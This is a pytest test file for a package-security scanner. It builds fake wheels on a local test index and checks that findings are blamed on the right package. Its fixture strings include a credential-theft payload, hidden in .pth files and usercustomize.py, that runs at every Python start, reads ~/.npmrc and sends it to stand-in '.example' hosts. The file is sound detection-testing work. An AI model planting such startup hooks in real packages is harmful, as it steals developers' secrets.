"""What wheels have every start of Python run is the wheels' doing, in whoever's build it happens to run."""

from __future__ import annotations

import os
from collections.abc import Iterator
from typing import Any

import pytest

from tests.support.hunter import scan_json
from tests.support.pypi_server import PypiServer, source, wheel
from tests.support.requires import needs_btf, needs_runc

_SENDS = (
    "import os, pathlib, urllib.request as r; mark = pathlib.Path('/tmp/{name}'); "
    "mark.exists() or mark.touch() or r.urlopen(r.Request('http://{name}.example/', "
    "pathlib.Path.home().joinpath('.npmrc').read_bytes()), timeout=3)\n"
)
_ALWAYS = _SENDS.replace("mark.exists() or mark.touch() or ", "")
_SETUP = """import subprocess, sys
from setuptools import setup
subprocess.run([sys.executable, "-c", "pass"])
setup(name="builds", version="1.0", py_modules=["builds"])
"""
_PLAIN = "import sys; sys.flags\n"


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    needs_btf()
    needs_runc()
    whole = "-1.0-py3-none-any.whl"
    server = PypiServer(
        {
            f"once{whole}": wheel("once", {"once.py": "", "once.pth": _SENDS.format(name="once")}),
            f"often{whole}": wheel("often", {"often.py": "", "often.pth": _ALWAYS.format(name="often")}),
            f"module{whole}": wheel(
                "module", {"module.py": "", "usercustomize.py": _SENDS.format(name="module")}
            ),
            f"honest{whole}": wheel("honest", {"honest.py": "", "honest.pth": _PLAIN}),
            "builds-1.0.tar.gz": source("builds", {"setup.py": _SETUP, "builds.py": ""}),
        }
    )
    folder = tmp_path_factory.mktemp("starts")
    (folder / "requirements.txt").write_text("once\noften\nmodule\nhonest\nbuilds\n")
    env = {
        **os.environ,
        "PIP_INDEX_URL": server.url,
        "http_proxy": server.proxy,
        "HOME": str(folder / "home"),
    }
    yield scan_json(folder, env=env, codes=(1,))
    server.close()


def _blamed(report: dict[str, Any], host: str) -> set[str | None]:
    return {
        f["blame"]["package"] for f in report["findings"] if f["proof"] and f"{host}.example" in f["title"]
    }


@pytest.mark.parametrize("name", ["once", "often", "module"])
def test_each_theft_is_its_wheels(report: dict[str, Any], name: str) -> None:
    assert report["coverage"]["packages"]["installed"] == 5, report["coverage"]["reasons"]
    assert _blamed(report, name) == {f"pkg:pypi/{name}@1.0"}


def test_who_was_built_meanwhile_is_not_accused(report: dict[str, Any]) -> None:
    accused = {f["blame"]["package"] for f in report["findings"] if f["severity"] != "info"}
    assert accused == {f"pkg:pypi/{name}@1.0" for name in ("once", "often", "module")}


def test_starts_are_no_install_scripts(report: dict[str, Any]) -> None:
    assert report["coverage"]["packages"]["scripts_expected"] == 0
    assert report["coverage"]["reasons"] == []
